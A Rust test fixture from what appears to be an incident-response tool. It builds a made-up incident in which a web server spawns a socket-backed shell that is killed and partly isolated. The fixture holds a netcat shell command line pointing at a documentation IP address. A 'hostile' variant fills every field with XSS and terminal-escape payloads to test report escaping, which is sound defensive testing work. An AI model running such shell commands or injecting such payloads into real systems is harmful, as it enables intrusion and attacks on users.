//! A fixed incident: a shell on a socket below a web server, killed, isolated in part.

use cordon_shared::{
    detection::Severity,
    incident::{Phase, PhaseState},
    time::Timestamp,
};

use crate::report::{
    model::{
        Command, Detection, Entry, Evidence, Facts, Gap, Host, Incident, Indicator, Override,
        PhaseFacts, Process, Task,
    },
    said::Said,
};

const WEB: &str = "a9a9a9a9";

/// So many milliseconds after the first event.
pub(crate) fn at(ms: i64) -> Timestamp {
    Timestamp::from_ns((1_764_000_000_000 + ms) * 1_000_000)
}

fn command(id: &str, action: &str, times: (i64, Option<i64>), verdict: Option<&str>) -> Command {
    Command {
        command_id: id.to_owned(),
        agent_id: WEB.to_owned(),
        action: action.to_owned(),
        summary: Said::new(format!("{action}, signed by ada")),
        issued_by: "ada".into(),
        signers: vec!["ada (key 3f9a11c2d4e5f607)".into()],
        releases_id: None,
        state: if verdict.is_some() { "closed" } else { "sent" }.to_owned(),
        verdict: verdict.map(str::to_owned),
        detail: verdict.map(|it| Said::new(format!("{action} is {it}"))),
        steps: vec!["freeze 4711: done".into(), "kill 4711: done (gone in 2 ms)".into()],
        open: Vec::new(),
        lease: None,
        issued: at(times.0),
        closed: times.1.map(at),
        receipt_event_id: times.1.map(|_| format!("{WEB}.11.critical.{id}")),
    }
}

fn entry(number: u64, ms: i64, kind: &str, actor: &str, text: &str) -> Entry {
    Entry {
        number,
        at: at(ms),
        kind: kind.into(),
        actor: actor.into(),
        text: text.into(),
        object: Said::default(),
    }
}

fn process(uid: &str, parent: Option<&str>, pid: i64, name: &str, line: &str) -> Process {
    Process {
        process_uid: uid.to_owned(),
        parent_uid: parent.map(str::to_owned),
        agent_id: WEB.to_owned(),
        pid,
        name: name.into(),
        exe: Said::new(format!("/usr/bin/{name}")),
        command_line: line.into(),
        user: "www-data".into(),
        launched: Some(at(pid - 4_711)),
        ..Process::default()
    }
}

fn hosts() -> Vec<Host> {
    vec![Host {
        agent_id: WEB.to_owned(),
        name: "web-1".into(),
        tier: "standard".into(),
        system: "Debian GNU/Linux 12, Linux 6.1".into(),
        standing: "approved, connected".into(),
        last_seen: Some(at(59_000)),
        ..Host::default()
    }]
}

fn detections() -> Vec<Detection> {
    vec![Detection {
        detection_id: "d1".to_owned(),
        title: "Shell with a socket as stdio".into(),
        rule_id: "2a4c7d0e".into(),
        severity: Severity::High,
        techniques: vec!["T1059.004".into()],
        agent_id: WEB.to_owned(),
        process_uid: Some("p3".to_owned()),
        event_id: Some("e1".to_owned()),
        summary: "sh -c \\xff|nc 198.51.100.7 by nginx".into(),
        count: 2,
        first: at(0),
        last: at(5),
        found: at(21),
    }]
}

fn timeline() -> Vec<Entry> {
    vec![
        entry(1, 0, "phase", "collector", "opened: Shell with a socket as stdio"),
        entry(2, 0, "detection", "collector", "Shell with a socket as stdio: sh by nginx"),
        entry(3, 24, "command", "automation", "kill the tree of pid 4711"),
        entry(4, 24, "phase", "collector", "containment: pending to active"),
        entry(5, 31, "receipt", "agent a9a9a9a9", "complete: 1 process is gone"),
        entry(6, 14_000, "command", "ada", "isolate, signed by ada: breach | <b>"),
        entry(7, 16_500, "receipt", "agent a9a9a9a9", "partial: udp over v6 answers"),
    ]
}

fn phases() -> Vec<PhaseFacts> {
    let phase = |(phase, (state, ms))| PhaseFacts {
        phase,
        state,
        since: at(ms),
        needs: Vec::new(),
        rests_on: Vec::new(),
    };
    let states = [
        (PhaseState::Pending, 22),
        (PhaseState::Active, 22),
        (PhaseState::Active, 24),
        (PhaseState::Pending, 22),
        (PhaseState::Pending, 22),
        (PhaseState::Pending, 22),
    ];
    let mut phases: Vec<_> = Phase::ALL.into_iter().zip(states).map(phase).collect();
    phases[2].needs = vec!["web-1 has no hold whose receipt is complete".into()];
    phases
}

/// An incident that is worked on: the shell is dead, the isolation is partial, the host was blind.
pub(crate) fn facts() -> Facts {
    let mut isolate = command("c2", "isolate", (14_000, Some(16_500)), Some("partial"));
    isolate.open = vec!["udp over v6 answers".into()];
    isolate.lease = Some("lease of 1 h 00 min, then it is undone".into());
    let mut kill = command("c1", "kill", (24, Some(31)), Some("complete"));
    kill.issued_by = "automation".into();
    kill.signers = vec!["automation (key 0011223344556677)".into()];
    let mut shell = process("p3", Some("p2"), 4_711, "sh", "sh -c \\xff|nc 198.51.100.7");
    shell.detections = vec!["Shell with a socket as stdio".into()];
    shell.ended = Some(at(30));
    shell.ending = Some("ended by signal 9".into());
    Facts {
        made: at(60_000),
        made_for: "grace".into(),
        incident: Incident {
            incident_id: "0195-incident".to_owned(),
            title: "Shell with a socket as stdio".into(),
            severity: Severity::High,
            state: "open".into(),
            verdict: None,
            lead: Some("ada".into()),
            opened: at(22),
            updated: at(16_500),
        },
        phases: phases(),
        hosts: hosts(),
        detections: detections(),
        commands: vec![kill, isolate],
        timeline: timeline(),
        processes: vec![
            process("p1", None, 4_600, "nginx", "nginx: master"),
            process("p2", Some("p1"), 4_650, "nginx", "nginx: worker"),
            shell,
        ],
        indicators: vec![
            Indicator { kind: "address", value: "198.51.100.7".into(), source: "sh: open".into() },
            Indicator { kind: "path", value: "/tmp/.x".into(), source: "sh: create".into() },
        ],
        sweeps: vec!["1 hit (db-2), 1 clean (web-1), 0 unanswered".into()],
        gaps: vec![Gap {
            agent_id: WEB.to_owned(),
            cause: "kernel_buffer".into(),
            sensor: "file".into(),
            count: 12,
            is_count_exact: true,
            from: at(2_000),
            until: at(2_400),
        }],
        evidence: vec![Evidence {
            what: "receipt of kill".into(),
            id: "a9a9a9a9.11.critical.c1".into(),
            source: "agent a9a9a9a9".into(),
            proof: "signed by the agent's receipt key".into(),
        }],
        tasks: Vec::new(),
        overrides: Vec::new(),
        unread: Vec::new(),
    }
}

/// The same, brought to its end, with one gate overridden and one action left.
pub(crate) fn closed() -> Facts {
    let mut facts = facts();
    let mut release = command("c4", "release", (500_000, Some(501_000)), Some("complete"));
    release.releases_id = Some("c3".to_owned());
    facts.commands.push(command("c3", "isolate", (17_000, Some(19_000)), Some("complete")));
    facts.commands.push(release);
    if let Some(partial) = facts.commands.get_mut(1) {
        partial.verdict = Some("failed".to_owned());
    }
    for (phase, ms) in facts.phases.iter_mut().zip([0, 20_000, 30_000, 400_000, 600_000, 700_000]) {
        phase.state = PhaseState::Done;
        phase.since = at(ms);
        phase.needs.clear();
    }
    facts.incident.state = "closed".into();
    facts.incident.verdict = Some("true_positive: a web shell".into());
    facts.incident.updated = at(700_000);
    facts.tasks = vec![Task {
        text: "patch the upload form".into(),
        owner: Some("lin".into()),
        due: Some("2025-12-01".into()),
        state: "open".into(),
    }];
    facts.overrides = vec![Override {
        at: at(690_000),
        actor: "ada".into(),
        text: "recovery: the watch window is not over; the host is retired".into(),
    }];
    facts
}

/// The same, where every word is the adversary's.
pub(crate) fn hostile() -> Facts {
    let evil = "</style><script>alert(1)</script>\n# x | <img src=x onerror=alert(1)> \
                [a](http://evil) \u{202e}fdp\u{1b}[2J \\xff \"' &amp; `";
    let mut facts = closed();
    let said = || Said::from(evil);
    facts.incident.title = said();
    facts.incident.verdict = Some(said());
    facts.incident.lead = Some(said());
    facts.made_for = said();
    for it in &mut facts.hosts {
        (it.name, it.tier, it.system, it.standing, it.phases) =
            (said(), said(), said(), said(), said());
        (it.exempt, it.containment) = (Some(said()), said());
    }
    for it in &mut facts.detections {
        (it.title, it.summary, it.rule_id) = (said(), said(), said());
        it.techniques = vec![said()];
    }
    for it in &mut facts.commands {
        (it.summary, it.issued_by, it.detail) = (said(), said(), Some(said()));
        (it.steps, it.open, it.signers) = (vec![said()], vec![said()], vec![said()]);
        it.lease = Some(said());
    }
    for it in &mut facts.timeline {
        (it.kind, it.actor, it.text, it.object) = (said(), said(), said(), said());
    }
    for it in &mut facts.processes {
        (it.name, it.exe, it.command_line, it.user) = (said(), said(), said(), said());
        (it.ending, it.detections) = (Some(said()), vec![said()]);
    }
    for it in &mut facts.indicators {
        (it.value, it.source) = (said(), said());
    }
    for it in &mut facts.gaps {
        (it.cause, it.sensor) = (said(), said());
    }
    for it in &mut facts.evidence {
        (it.what, it.id, it.source, it.proof) = (said(), said(), said(), said());
    }
    for it in &mut facts.tasks {
        (it.text, it.owner, it.due) = (said(), Some(said()), Some(said()));
    }
    for it in &mut facts.overrides {
        (it.actor, it.text) = (said(), said());
    }
    for it in &mut facts.phases {
        (it.needs, it.rests_on) = (vec![said()], vec![said()]);
    }
    (facts.unread, facts.sweeps) = (vec![said()], vec![said()]);
    facts
}
